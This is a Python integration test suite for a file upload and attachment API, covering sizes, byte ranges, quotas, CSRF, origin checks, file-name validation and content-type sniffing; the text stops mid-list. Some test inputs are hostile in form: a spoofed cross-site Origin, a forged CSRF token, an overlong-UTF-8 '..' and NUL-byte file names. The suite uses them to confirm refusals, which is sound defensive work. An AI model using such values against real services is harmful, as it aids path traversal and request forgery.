"""Integration tests of uploads and attachments: POST /api/uploads,
GET|HEAD /api/uploads/<id> and GET /api/items/<id>/attachments through real
edges, session, query and shoal-upload instances, Postgres and the S3 test
server (tests/lib/shoal_stack.py).

The contract is the "Uploads and attachments" HTTP API and the upload
service's (README.md, services/upload/README.md). What the edge answers is
checked against what is really stored: rows in Postgres, objects and
unfinished multipart uploads in S3, read directly. Odd file names come from
corpus/filenames.json.

Run with tests/integration/run uploads (or sizes, sniff, corpus, ...).
"""

import codecs
import concurrent.futures
import hashlib
import http.client
import json
import os
import random
import re
import select
import socket
import sys
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

from shoal_stack import (LOOPBACK, MIB, Browser, Reply, Stack, raw_http,  # noqa: E402
                         wait_until)
from test_board import ERROR_CODES, HIGH_LIMITS, BoardCase, nonce  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, "corpus", "filenames.json")

PART = 5 * MIB                # the upload instances' part size (Upload.PART_BYTES)
MAX_BYTES = 80 * MIB          # SHOAL_UPLOAD_MAX_BYTES of the edges and the upload service
QUOTA = 1024 * MIB            # SHOAL_UPLOAD_QUOTA_BYTES of the ordinary edges
SMALL_QUOTA = 3 * MIB         # ... of the edge the quota test adds
ATTACH_MAX = 100              # attachments of one item
NAME_MAX = 1024               # bytes of a file name
KEY_RE = re.compile(r"^uploads/[0-9a-f]{32}$")
SHA_RE = re.compile(r"^[0-9a-f]{64}$")
ATTACHMENT_FIELDS = {"id", "item_id", "owner_id", "owner", "name", "content_type", "size",
                     "sha256", "created_at", "url"}
UPLOAD_ERROR_CODES = ERROR_CODES | {"quota_exceeded", "unsupported_media_type"}
EARLY_ANSWER_S = 3.0          # a refusal before the body must come this fast

UPLOAD_EDGE_ENV = dict(HIGH_LIMITS, SHOAL_UPLOAD_MAX_BYTES=str(MAX_BYTES),
                       SHOAL_UPLOAD_QUOTA_BYTES=str(QUOTA))
UPLOAD_ENV = {"SHOAL_UPLOAD_MAX_BYTES": str(MAX_BYTES),
              # 50 concurrent uploads must fit on one instance whatever the edge's choice
              "SHOAL_UPLOAD_MAX_STREAMS": "64",
              # the periodic sweeper stays off: it runs only where a test asks for it
              "SHOAL_UPLOAD_SWEEP_INTERVAL_MS": "0"}

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
TEXT = b"The quick brown fox jumps over the lazy dog.\n" * 20


def binary(n, seed=None):
    """n random bytes starting with NUL, so that no signature and no text
    sniff can match them (application/octet-stream)."""
    rnd = random.Random(seed)
    return (b"\x00" + rnd.randbytes(max(0, n - 1)))[:n]


def text_bytes(n):
    """n bytes of ASCII text lines."""
    line = b"line of plain text, nothing else here 0123456789\n"
    return (line * (n // len(line) + 1))[:n]


def sniff(data):
    """The type the contract says these bytes are stored as."""
    if not data:
        return "application/octet-stream"
    if data.startswith(b"\x89PNG\r\n\x1a\n"):
        return "image/png"
    if data.startswith(b"\xff\xd8\xff"):
        return "image/jpeg"
    if data.startswith(b"GIF87a") or data.startswith(b"GIF89a"):
        return "image/gif"
    if data[:4] == b"RIFF" and data[8:12] == b"WEBP":
        return "image/webp"
    if data.startswith(b"%PDF-"):
        return "application/pdf"
    if data.startswith(b"PK\x03\x04") or data.startswith(b"PK\x05\x06"):
        return "application/zip"
    head = data[:512]
    try:
        # a sequence cut at the 512-byte edge is fine: decode without "final"
        codecs.getincrementaldecoder("utf-8")().decode(head, final=len(data) <= 512)
    except UnicodeDecodeError:
        return "application/octet-stream"
    if any(b < 0x20 and b not in b"\t\n\r\x0c\x1b" for b in head):
        return "application/octet-stream"
    return "text/plain"


def encode_name(name):
    """X-File-Name as encodeURIComponent writes it (lone surrogates as the
    invalid UTF-8 bytes of their code points)."""
    return urllib.parse.quote(name.encode("utf-8", "surrogatepass"), safe="-_.!~*'()")


def sha256(data):
    return hashlib.sha256(data).hexdigest()


# ------------------------------------------------------------------- client

class Sent:
    """What one upload request got: `reply` (a Reply, or None when the
    connection ended without a response: then `error` says how), `sent`
    (body bytes written), `elapsed` (seconds from the first byte sent to
    the end of the response or of the connection) and `finished` (that end
    on time.monotonic())."""

    def __init__(self):
        self.reply = None
        self.error = None
        self.sent = 0
        self.elapsed = 0.0
        self.finished = 0.0

    @property
    def status(self):
        return self.reply.status if self.reply else None

    def __repr__(self):
        return "<Sent %r error=%s sent=%d %.2fs>" % (self.reply, self.error, self.sent,
                                                     self.elapsed)


def send_request(port, path, headers, body=b"", send=None, on_sent=None, timeout=60.0,
                 piece=256 * 1024, method="POST"):
    """Send one request with `headers` (Content-Length is len(body) unless
    given) and at most `send` bytes of `body` (None: all of it), while
    watching for an early answer: once the server answers or closes, sending
    stops. on_sent(n) is called after each piece with the bytes sent so far.
    Returns a Sent; never raises for what the server does."""
    out = Sent()
    h = {"Host": "%s:%d" % (LOOPBACK, port)}
    h.update(headers)
    h.setdefault("Content-Length", str(len(body)))
    head = "%s %s HTTP/1.1\r\n" % (method, path)
    head += "".join("%s: %s\r\n" % kv for kv in h.items() if kv[1] is not None) + "\r\n"
    limit = len(body) if send is None else min(send, len(body))
    view = memoryview(body)
    t0 = time.monotonic()
    deadline = t0 + timeout
    sock = socket.create_connection((LOOPBACK, port), timeout=timeout)
    try:
        sock.sendall(head.encode("latin-1"))
        sock.setblocking(False)
        while out.sent < limit:
            left = deadline - time.monotonic()
            if left <= 0:
                out.error = "timeout while sending"
                out.finished = time.monotonic()
                out.elapsed = out.finished - t0
                return out
            readable, writable, _ = select.select([sock], [sock], [], min(left, 0.5))
            if readable:
                break  # an answer (or the end) came before the whole body
            if not writable:
                continue
            try:
                n = sock.send(view[out.sent:min(limit, out.sent + piece)])
            except BlockingIOError:
                continue
            except OSError:
                break  # reset or broken pipe: read what the server said, if anything
            out.sent += n
            if on_sent:
                on_sent(out.sent)
        sock.setblocking(True)
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        resp = http.client.HTTPResponse(sock, method=method)
        try:
            resp.begin()
            data = resp.read()
        except (http.client.RemoteDisconnected, http.client.IncompleteRead) as e:
            out.error = "closed: %s" % type(e).__name__
        except ConnectionResetError:
            out.error = "closed: reset"
        except socket.timeout:
            out.error = "timeout waiting for the answer"
        else:
            out.reply = Reply(resp.status, resp.headers, data)
            out.reply.elapsed = time.monotonic() - t0
        out.finished = time.monotonic()
        out.elapsed = out.finished - t0
        return out
    finally:
        sock.close()


def raw_get(port, path, cookie, timeout=30.0):
    """GET on a fresh connection, read byte by byte as sent: returns
    (status line, [(name, value)] as bytes, body). The head must be at most
    64 KiB; the body is Content-Length bytes."""
    sock = socket.create_connection((LOOPBACK, port), timeout=timeout)
    try:
        sock.sendall(("GET %s HTTP/1.1\r\nHost: %s:%d\r\nCookie: %s\r\n\r\n"
                      % (path, LOOPBACK, port, cookie)).encode("latin-1"))
        buf = b""
        while b"\r\n\r\n" not in buf:
            chunk = sock.recv(65536)
            if not chunk:
                raise AssertionError("connection closed inside the head: %r" % buf[:2000])
            buf += chunk
            if len(buf) > 65536:
                raise AssertionError("head over 64 KiB")
        head, _, body = buf.partition(b"\r\n\r\n")
        lines = head.split(b"\r\n")
        headers = []
        for line in lines[1:]:
            name, sep, value = line.partition(b":")
            headers.append((name, value.strip(b" \t") if sep else None, line))
        length = [v for n, v, _ in headers if n.lower() == b"content-length"]
        want = int(length[0]) if length else 0
        while len(body) < want:
            chunk = sock.recv(min(1 << 20, want - len(body)))
            if not chunk:
                break
            body += chunk
        return lines[0], headers, body
    finally:
        sock.close()


TOKEN_RE = re.compile(rb"^[!#$%&'*+.^_`|~0-9A-Za-z-]+$")
FIELD_VALUE_RE = re.compile(rb"^[\x21-\x7e](?:[\x20-\x7e\t]*[\x21-\x7e])?$|^$")
TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"
QUOTED = r'"(?:[^"\\\x00-\x1f\x7f]|\\[\x20-\x7e])*"'
DISP_PARAM_RE = re.compile(r"\s*;\s*(%s)\s*=\s*(%s|%s)" % (TOKEN, QUOTED, TOKEN))
EXT_VALUE_RE = re.compile(r"^([A-Za-z0-9!#$%&+^_`{}~-]+)'([A-Za-z0-9-]*)'"
                          r"((?:[A-Za-z0-9!#$&+.^_`|~-]|%[0-9A-Fa-f]{2})*)$")


def parse_disposition(value):
    """(type, {lowercased parameter: raw value}) of a Content-Disposition
    value per RFC 6266, or raise ValueError. A repeated parameter is an
    error (two filename parameters are how a name would smuggle one in)."""
    m = re.match(r"^\s*(%s)" % TOKEN, value)
    if not m:
        raise ValueError("no disposition type in %r" % value)
    dtype, pos, params = m.group(1).lower(), m.end(), {}
    while pos < len(value):
        m = DISP_PARAM_RE.match(value, pos)
        if not m:
            raise ValueError("unparsable from %d: %r" % (pos, value[pos:pos + 80]))
        name = m.group(1).lower()
        if name in params:
            raise ValueError("parameter %s twice in %r" % (name, value))
        params[name] = m.group(2)
        pos = m.end()
        if value[pos:].strip() == "":
            break
    return dtype, params


# --------------------------------------------------------------------- cases

class UploadCase(BoardCase):
    """A board stack with the S3 test server and shoal-upload instances.
    Helpers upload through any edge, check the attachment JSON against the
    bytes sent and look behind the edge (rows, objects, multipart uploads)."""

    sessions = 1
    edges = 2
    queries = 1
    healths = 1
    uploads = 2
    replica = True
    edge_env = UPLOAD_EDGE_ENV
    upload_env = UPLOAD_ENV
    error_codes = UPLOAD_ERROR_CODES

    @classmethod
    def new_stack(cls):
        return Stack(sessions=cls.sessions, edges=cls.edges, queries=cls.queries,
                     postgres=True, replica=cls.replica, healths=cls.healths,
                     edge_env=cls.edge_env, query_env=cls.query_env, uploads=cls.uploads,
                     upload_env=cls.upload_env).start()

    def services(self):
        s = self.stack
        return list(s.edges) + list(s.uploads) + list(s.queries) + list(s.sessions)

    def setUp(self):
        super().setUp()
        # a service that crashed in an earlier test (which failed for it) is
        # started again, so that each test reports on its own requests
        for p in self.services():
            if p.proc is not None and not p.alive():
                print("\n  %s had exited with status %s: started again"
                      % (p.name, p.returncode()))
                p.start()
        self.addCleanup(self.check_services_alive)
        # what an earlier test may have left (a crash leaves a multipart
        # upload until the idle abort) is not this test's doing
        self.multiparts_at_start = self.multipart_ids()

    def check_services_alive(self):
        """A service process that died during the test fails it, even when
        every answer the test looked at was right."""
        dead = ["%s (status %s)" % (p.name, p.returncode()) for p in self.services()
                if p.proc is not None and not p.alive()]
        self.assertEqual(dead, [], "service processes exited during the test")

    def browser(self, edge=None, timeout=60.0):
        b = Browser((edge or self.stack.edge).port, timeout=timeout)
        self.addCleanup(b.close)
        return b

    def on_edge(self, b, edge):
        """A Browser on another edge with b's cookies and token as they are
        now (shoal_lsn included: the same browser behind a load balancer)."""
        other = b.copy()
        other.port = edge.port
        other.timeout = b.timeout
        self.addCleanup(other.close)
        return other

    @staticmethod
    def keep_newest_lsn(b, lsns):
        """Give b the newest of the shoal_lsn cookies its copies were set,
        so that its next read sees every write they made."""
        values = [int(v) for v in list(lsns) + [b.cookies.get("shoal_lsn")] if v]
        if values:
            b.cookies["shoal_lsn"] = str(max(values))

    def assert_error(self, reply, status, code=None, codes=None, field=None):
        """As BoardCase.assert_error (with the upload error codes); `reply`
        may be a Sent."""
        if isinstance(reply, Sent):
            self.assertIsNotNone(reply.reply, "no answer: %r" % (reply,))
            reply = reply.reply
        return super().assert_error(reply, status, code=code, codes=codes, field=field)

    def upload_headers(self, b, data_len=None, name="file.bin", ctype="application/octet-stream",
                       raw_name=None, csrf=True, cookies=True):
        h = {"Content-Length": None if data_len is None else str(data_len)}
        if cookies and b.cookies:
            h["Cookie"] = b.cookie_header()
        if csrf and b.csrf:
            h["X-CSRF-Token"] = b.csrf
        if ctype is not None:
            h["Content-Type"] = ctype
        if raw_name is not None:
            h["X-File-Name"] = raw_name
        elif name is not None:
            h["X-File-Name"] = encode_name(name)
        return h

    def upload(self, b, item_id, data, name="file.bin", ctype="application/octet-stream",
               raw_name=None, headers=None, edge=None, send=None, on_sent=None, timeout=60.0,
               csrf=True, cookies=True, length=None):
        """POST /api/uploads?item_id=<item_id> as browser b (its cookies
        and CSRF token), body `data`; headers given here win (None removes
        one). Cookies set by the answer (shoal_lsn) go into b's jar.
        Returns a Sent."""
        h = self.upload_headers(b, len(data) if length is None else length, name, ctype,
                                raw_name, csrf, cookies)
        for k, v in (headers or {}).items():
            h[k] = v
        port = edge.port if edge else b.port
        out = send_request(port, "/api/uploads?item_id=%s" % item_id, h, data, send=send,
                           on_sent=on_sent, timeout=timeout)
        if out.reply is not None:
            b._absorb(out.reply)
        return out

    def upload_ok(self, b, item_id, data, name="file.bin", ctype="application/octet-stream",
                  **kw):
        """upload() that must give 201 with a right attachment; returns it."""
        t0 = time.time()
        out = self.upload(b, item_id, data, name=name, ctype=ctype, **kw)
        self.assertIsNotNone(out.reply, out)
        self.assertEqual(out.status, 201, out)
        att = out.reply.json().get("attachment")
        self.check_attachment(att, b, item_id, name if kw.get("raw_name") is None else None,
                              data, t0)
        return att

    def check_attachment(self, att, b, item_id, name, data, t0):
        self.assertIsInstance(att, dict, att)
        self.assertEqual(set(att), ATTACHMENT_FIELDS, "fields of %r" % (att,))
        self.assertIsInstance(att["id"], int)
        self.assertGreater(att["id"], 0)
        self.assertEqual(att["item_id"], item_id)
        self.assertEqual(att["owner_id"], b.user["id"])
        self.assertEqual(att["owner"], b.user["username"])
        if name is not None:
            self.assertEqual(att["name"].encode("utf-8", "surrogatepass"),
                             name.encode("utf-8", "surrogatepass"))
        self.assertEqual(att["size"], len(data))
        self.assertEqual(att["sha256"], sha256(data))
        self.assertEqual(att["content_type"], sniff(data))
        self.assertIsInstance(att["created_at"], int)
        self.assertLessEqual(abs(att["created_at"] - int(t0 * 1000)),
                             int((time.time() - t0) * 1000) + 5000, att)
        self.assertEqual(att["url"], "/api/uploads/%d" % att["id"])

    # --- behind the edge

    def row(self, att_id):
        """(object_key, size, sha256, content_type, name bytes) of a row on
        the primary, or None."""
        out = self.stack.psql("SELECT object_key, size, sha256, content_type, "
                              "encode(convert_to(name, 'UTF8'), 'hex') FROM attachments "
                              "WHERE id = %d" % att_id)
        if not out:
            return None
        key, size, digest, ctype, name_hex = out.split("|")
        return key, int(size), digest, ctype, bytes.fromhex(name_hex)

    def rows_of(self, item_id):
        return int(self.stack.psql("SELECT count(*) FROM attachments WHERE item_id = %d"
                                   % int(item_id)))

    def all_rows(self):
        return int(self.stack.psql("SELECT count(*) FROM attachments"))

    def objects(self):
        """{key: size} of every object in the bucket (any prefix)."""
        return {o["key"]: o["size"] for o in self.stack.s3.list_objects()}

    def multiparts(self):
        return self.stack.s3.list_multipart_uploads()

    def multipart_ids(self):
        return {u["upload_id"] for u in self.multiparts()}

    def assert_no_multipart_left(self, timeout=5.0):
        """Every multipart upload this test began is completed or aborted
        (an abort may still be on its way when the client has its answer)."""
        wait_until(lambda: not self.multipart_ids() - self.multiparts_at_start, timeout,
                   "no unfinished multipart upload begun by this test")

    def assert_stored(self, att, data):
        """The row and the object behind `att`, read without the edge."""
        row = self.row(att["id"])
        self.assertIsNotNone(row, "no row for %r" % (att,))
        key, size, digest, ctype, name = row
        self.assertRegex(key, KEY_RE)
        self.assertEqual((size, digest, ctype), (len(data), sha256(data), att["content_type"]))
        self.assertEqual(name, att["name"].encode("utf-8"))
        got = self.stack.s3.get_object(key, timeout=60)
        self.assertEqual(got.status, 200, "S3 GET %s: %r" % (key, got))
        self.assertEqual(sha256(got.body), sha256(data), "object %s differs" % key)
        return key

    # --- downloads

    def check_download(self, r, att, data, name=None):
        """A 200 of the whole object with every header of the contract."""
        self.assertEqual(r.status, 200, r)
        self.assertEqual(len(r.body), len(data))
        self.assertTrue(r.body == data, "downloaded bytes differ (sha256 %s, want %s)"
                        % (sha256(r.body), sha256(data)))
        self.check_download_headers(r, att, len(data), name)

    def check_download_headers(self, r, att, length, name=None):
        ctype = r.header("Content-Type", "")
        self.assertEqual(ctype.split(";")[0].strip().lower(), att["content_type"], ctype)
        self.assertEqual(r.header("Content-Length"), str(length))
        self.assertEqual(r.header("ETag"), '"%s"' % att["sha256"])
        self.assertEqual(r.header("Accept-Ranges"), "bytes")
        self.assertEqual(r.header("X-Content-Type-Options"), "nosniff")
        self.assertEqual(r.header("Cache-Control"), "private, no-cache")
        self.assertEqual(r.header("Content-Security-Policy"), "default-src 'none'; sandbox")
        self.check_disposition(r.headers.get_all("Content-Disposition") or [],
                               att["name"] if name is None else name)

    def check_disposition(self, values, name):
        """Exactly one Content-Disposition: attachment, an ASCII fallback
        with nothing that ends or escapes a quoted-string or names a
        directory, and a filename* that decodes to the name byte for byte."""
        self.assertEqual(len(values), 1, "Content-Disposition headers: %r" % (values,))
        value = values[0]
        try:
            dtype, params = parse_disposition(value)
        except ValueError as e:
            self.fail("Content-Disposition does not parse (RFC 6266): %s" % e)
        self.assertEqual(dtype, "attachment", value)
        self.assertEqual(set(params), {"filename", "filename*"}, value)
        fallback = params["filename"]
        if fallback.startswith('"'):
            fallback = fallback[1:-1]
        self.assertTrue(fallback, "empty fallback in %r" % value)
        bad = [c for c in fallback if c in '"\\/\r\n' or not 0x20 <= ord(c) < 0x7f]
        self.assertFalse(bad, "fallback %r has %r" % (fallback, bad))
        m = EXT_VALUE_RE.match(params["filename*"])
        self.assertIsNotNone(m, "filename* is not an RFC 8187 ext-value: %r" % value)
        self.assertEqual(m.group(1).upper(), "UTF-8", value)
        decoded = urllib.parse.unquote_to_bytes(m.group(3))
        self.assertEqual(decoded, name.encode("utf-8", "surrogatepass"),
                         "filename* decodes to %r, not the name" % decoded)

    def check_range(self, b, att, data, rng, first, last):
        r = b.request("GET", att["url"], headers={"Range": rng})
        self.assertEqual(r.status, 206, "%s: %r" % (rng, r))
        self.assertEqual(r.header("Content-Range"), "bytes %d-%d/%d" % (first, last, len(data)),
                         rng)
        self.assertEqual(r.header("Content-Length"), str(last - first + 1), rng)
        self.assertEqual(r.header("ETag"), '"%s"' % att["sha256"], rng)
        self.assertTrue(r.body == data[first:last + 1], "bytes of %s differ (%d bytes back)"
                        % (rng, len(r.body)))

    def check_unsatisfiable(self, b, att, size, rng):
        r = b.request("GET", att["url"], headers={"Range": rng})
        self.assertEqual(r.status, 416, "%s: %r" % (rng, r))
        self.assertEqual(r.header("Content-Range"), "bytes */%d" % size, rng)

    def new_item(self, b):
        return self.item(b, "files " + nonce(6))["id"]

    def snapshot(self):
        """(rows, objects) now, to show later that nothing was stored."""
        return self.all_rows(), self.objects()

    def assert_nothing_stored(self, before, what=""):
        rows, objects = before
        self.assertEqual(self.all_rows(), rows, "a row was written %s" % what)
        self.assertEqual(self.objects(), objects, "the bucket changed %s" % what)
        self.assert_no_multipart_left()


class Uploads(UploadCase):
    """The contract on one stack: two edges, two upload instances."""

    # ---------------------------------------------------------- round trips

    def test_sizes_round_trip_ranges_head_etag(self):
        b = self.user("size")
        item_id = self.new_item(b)
        cases = [
            (0, b"", "application/octet-stream"),
            (1, b"\x00", "application/octet-stream"),
            (PART - 1, PNG + binary(PART - 1 - len(PNG), 1), "image/png"),
            (PART + 1, text_bytes(PART + 1), "text/plain"),
            (64 * MIB, binary(64 * MIB, 2), "application/octet-stream"),
        ]
        atts = []
        for size, data, ctype in cases:
            with self.subTest(size=size):
                self.assertEqual(len(data), size)
                name = "size-%d.%s" % (size, ctype.split("/")[1])
                att = self.upload_ok(b, item_id, data, name=name, ctype=ctype)
                self.assertEqual(att["content_type"], ctype)
                atts.append(att)
                self.assert_stored(att, data)

                r = b.request("GET", att["url"])
                self.check_download(r, att, data)
                r = b.request("HEAD", att["url"])
                self.assertEqual((r.status, r.body), (200, b""), r)
                self.check_download_headers(r, att, size)
                etag = '"%s"' % att["sha256"]
                r = b.request("GET", att["url"], headers={"If-None-Match": etag})
                self.assertEqual((r.status, r.body), (304, b""), r)
                self.assertEqual(r.header("ETag"), etag)
                r = b.request("GET", att["url"], headers={"If-None-Match": '"%s"' % ("0" * 64)})
                self.assertEqual(r.status, 200, r)
                self.assertTrue(r.body == data)
                # the other edge serves the same bytes
                other = self.on_edge(b, self.stack.edges[1])
                self.check_download(other.request("GET", att["url"]), att, data)

                if size == 0:
                    for rng in ("bytes=0-0", "bytes=0-", "bytes=5-10"):
                        with self.subTest(range=rng):
                            self.check_unsatisfiable(b, att, size, rng)
                    continue
                last = size - 1
                ranges = [("bytes=0-0", 0, 0), ("bytes=0-", 0, last), ("bytes=-1", last, last),
                          ("bytes=-%d" % (size + 100), 0, last),
                          ("bytes=0-%d" % (size + 1000), 0, last)]
                if size > 1:
                    mid = size // 2
                    ranges += [("bytes=%d-%d" % (mid, mid + 1), mid, mid + 1),
                               ("bytes=%d-" % (size - 7), size - 7, last),
                               ("bytes=-7", size - 7, last)]
                if size > PART:
                    # across the part boundary and several read chunks
                    lo, hi = PART - 700000, min(last, PART + 2500000)
                    ranges += [("bytes=%d-%d" % (lo, hi), lo, hi),
                               ("bytes=-%d" % (3 * MIB + 5), size - 3 * MIB - 5, last),
                               ("bytes=%d-" % (size - MIB - 3), size - MIB - 3, last)]
                for rng, first, end in ranges:
                    with self.subTest(range=rng):
                        self.check_range(b, att, data, rng, first, end)
                for rng in ("bytes=%d-" % size, "bytes=%d-%d" % (size, size + 5),
                            "bytes=%d-%d" % (size + 10, size + 20)):
                    with self.subTest(range=rng):
                        self.check_unsatisfiable(b, att, size, rng)
                # several ranges: the whole file
                r = b.request("GET", att["url"], headers={"Range": "bytes=0-0,-1"})
                self.check_download(r, att, data)
                self.assertIsNone(r.header("Content-Range"), r.headers)
        # the item lists them oldest first, as created
        r = self.on_edge(b, self.stack.edges[1]).request("GET", "/api/items/%d/attachments"
                                                           % item_id)
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json()["attachments"], atts)
        self.assert_no_multipart_left()

    # ---------------------------------------------------------- refusals

    def test_chunked_body_is_411(self):
        b = self.user("chunk")
        item_id = self.new_item(b)
        before = self.snapshot()
        h = self.upload_headers(b, None, name="chunked.bin")
        h.pop("Content-Length")
        head = "POST /api/uploads?item_id=%d HTTP/1.1\r\nHost: %s:%d\r\n" % (
            item_id, LOOPBACK, self.port)
        head += "".join("%s: %s\r\n" % kv for kv in h.items())
        head += "Transfer-Encoding: chunked\r\n\r\n"
        r = raw_http(self.port, head.encode() + b"5\r\nhello\r\n0\r\n\r\n", method="POST",
                     send_errors_ok=True)
        self.assert_error(r, 411, "length_required")
        self.assert_nothing_stored(before, "by a chunked upload")

    def test_over_limit_is_413_before_the_body(self):
        b = self.user("big")
        item_id = self.new_item(b)
        before = self.snapshot()
        for length in (MAX_BYTES + 1, 10 ** 15):
            with self.subTest(length=length):
                # headers only: the answer must come without a byte of the body
                out = self.upload(b, item_id, b"", length=length, send=0, timeout=EARLY_ANSWER_S)
                self.assertEqual(out.sent, 0)
                self.assert_error(out, 413, "too_large")
        self.assert_nothing_stored(before, "by a refused oversized upload")

    def test_quota_exceeded_is_413_before_the_body(self):
        edge = self.stack.add_edge(env={"SHOAL_UPLOAD_QUOTA_BYTES": str(SMALL_QUOTA)},
                                   name="edge-quota")
        b = self.user("quota", edge=edge)
        item_id = self.new_item(b)
        first = binary(2 * MIB, 3)
        self.upload_ok(b, item_id, first, name="two.bin")
        before = self.snapshot()
        for length in (MIB + 1, SMALL_QUOTA, MAX_BYTES):
            with self.subTest(length=length):
                out = self.upload(b, item_id, b"", length=length, send=0,
                                  timeout=EARLY_ANSWER_S)
                self.assert_error(out, 413, "quota_exceeded")
        self.assert_nothing_stored(before, "over the quota")
        # exactly up to the quota is fine; one byte more is not
        self.upload_ok(b, item_id, binary(MIB, 4), name="one.bin")
        before = self.snapshot()
        out = self.upload(b, item_id, b"\x00")
        self.assert_error(out, 413, "quota_exceeded")
        self.assert_nothing_stored(before, "over the quota")
        # the quota is per user
        c = self.user("quota2", edge=edge)
        self.upload_ok(c, self.new_item(c), binary(2 * MIB, 5), name="other.bin")

    def test_session_csrf_and_origin_are_required(self):
        b = self.user("auth")
        item_id = self.new_item(b)
        data = b"no session, no file\n"
        before = self.snapshot()
        anon = self.browser()
        self.assertEqual(anon.request("GET", "/api/session").status, 200)  # anonymous session
        self.assert_error(self.upload(b, item_id, data, cookies=False), 401, "unauthorized")
        self.assert_error(self.upload(anon, item_id, data), 401, "unauthorized")
        # the CSRF check is the board's: code `csrf` there, `forbidden` in the upload contract
        self.assert_error(self.upload(b, item_id, data, csrf=False), 403,
                          codes=("csrf", "forbidden"))
        self.assert_error(self.upload(b, item_id, data, headers={"X-CSRF-Token": "x" * 43}), 403,
                          codes=("csrf", "forbidden"))
        for h in ({"Origin": "http://evil.example"}, {"Origin": "null"},
                  {"Sec-Fetch-Site": "cross-site"}):
            with self.subTest(headers=h):
                self.assert_error(self.upload(b, item_id, data, headers=h), 403, "forbidden")
        self.assert_nothing_stored(before, "by a refused request")
        # the same request with everything in order goes through
        self.upload_ok(b, item_id, data, name="ok.txt", ctype="text/plain",
                       headers={"Origin": "http://%s:%d" % (LOOPBACK, self.port)})

    def test_someone_elses_item_is_403_before_the_body(self):
        owner = self.user("owner")
        item_id = self.new_item(owner)
        intruder = self.user("intruder")
        before = self.snapshot()
        out = self.upload(intruder, item_id, b"", length=8 * MIB, send=0, timeout=EARLY_ANSWER_S)
        self.assert_error(out, 403, "forbidden")
        self.assert_nothing_stored(before, "on someone else's item")

    def test_unknown_item_is_404_before_the_body(self):
        b = self.user("noitem")
        gone = self.new_item(b)
        self.assertEqual(b.delete_item(gone).status, 204)
        before = self.snapshot()
        for item_id in (999999999, gone):
            with self.subTest(item_id=item_id):
                out = self.upload(b, item_id, b"", length=8 * MIB, send=0,
                                  timeout=EARLY_ANSWER_S)
                self.assert_error(out, 404, "not_found")
        self.assert_nothing_stored(before, "on a missing item")

    def test_bad_file_name_is_400(self):
        b = self.user("badname")
        item_id = self.new_item(b)
        before = self.snapshot()
        cases = [("missing", None), ("empty", ""), ("bad escape", "%zz"), ("NUL", "a%00b"),
                 ("overlong", "%C0%AE%C0%AE"), ("1,025 bytes", "a" * 1025)]
        for what, raw in cases:
            with self.subTest(what=what):
                h = {"X-File-Name": raw}
                self.assert_error(self.upload(b, item_id, b"data", headers=h), 400, "invalid",
                                  field="name")
        self.assert_nothing_stored(before, "with a bad file name")

    def test_item_attachment_limit(self):
        b = self.user("limit")
        item_id = self.new_item(b)

        def one(i):
            c = b.copy()
            try:
                return self.upload(c, item_id, b"%d" % i, name="n%03d.txt" % i,
                                   ctype="text/plain"), c.cookies.get("shoal_lsn")
            finally:
                c.close()
        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            results, lsns = zip(*pool.map(one, range(ATTACH_MAX)))
        self.keep_newest_lsn(b, lsns)
        self.assertEqual([r.status for r in results], [201] * ATTACH_MAX,
                         [r for r in results if r.status != 201][:3])
        before = self.snapshot()
        out = self.upload(b, item_id, b"", length=MIB, send=0, timeout=EARLY_ANSWER_S)
        self.assert_error(out, 413, "too_large")
        self.assert_nothing_stored(before, "past the item's limit")
        r = b.request("GET", "/api/items/%d/attachments" % item_id)
        self.assertEqual(r.status, 200, r)
        ids = [a["id"] for a in r.json()["attachments"]]
        self.assertEqual(ids, sorted(a.reply.json()["attachment"]["id"] for a in results))

    def test_download_errors(self):
        b = self.user("dl")
        item_id = self.new_item(b)
        att = self.upload_ok(b, item_id, b"secret\n", name="s.txt", ctype="text/plain")
        for path in ("/api/uploads/999999999", "/api/uploads/abc", "/api/uploads/0"):
            with self.subTest(path=path):
                self.assert_error(b.request("GET", path), 404, "not_found")
        r = b.request("GET", "/api/items/999999999/attachments")
        self.assertEqual((r.status, r.json()), (200, {"attachments": []}))
        anon = self.browser()
        self.assert_error(anon.request("GET", att["url"]), 401, "unauthorized")
        self.assert_error(anon.request("GET", "/api/items/%d/attachments" % item_id), 401,
                          "unauthorized")
        # any logged-in user may read it (its signup came after the upload, so
        # its own shoal_lsn already covers the row)
        self.check_download(self.user("reader").request("GET", att["url"]), att, b"secret\n")
        # deleting the item deletes its attachments
        self.assertEqual(b.delete_item(item_id).status, 204)
        self.assert_error(b.request("GET", att["url"]), 404, "not_found")
        self.assertIsNone(self.row(att["id"]))

    # ---------------------------------------------------------- sniffing

    def test_sniffing(self):
        b = self.user("sniff")
        item_id = self.new_item(b)
        riff = b"RIFF\x24\x00\x00\x00WEBPVP8 " + binary(40, 6)
        wave = b"RIFF\x24\x00\x00\x00WAVEfmt " + binary(40, 7)
        pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + binary(200, 8)
        zip_ = b"PK\x03\x04\x14\x00\x00\x00" + binary(100, 9)
        cut = b"a" * 511 + "\u00e9".encode() + b" and more text\n"
        cases = [  # declared type, bytes, stored type or 415
            ("image/png", TEXT, 415),
            ("IMAGE/PNG; charset=binary", TEXT, 415),
            ("image/png", b"", 415),
            ("image/jpeg", PNG + binary(100, 10), 415),
            ("image/webp", wave, 415),
            ("application/pdf", zip_, 415),
            ("application/zip", pdf, 415),
            ("image/gif", TEXT, 415),
            ("text/plain", b"\x00\x01\x02 binary", 415),
            ("text/plain", b"abc\x01def\n", 415),
            ("text/plain; charset=utf-8", b"\xff\xfe not UTF-8", 415),
            ("text/plain", PNG + binary(100, 11), 415),
            ("image/png", PNG + binary(100, 12), "image/png"),
            ("image/jpeg", JPEG + binary(100, 13), "image/jpeg"),
            ("image/gif", b"GIF89a\x01\x00\x01\x00" + binary(30, 14), "image/gif"),
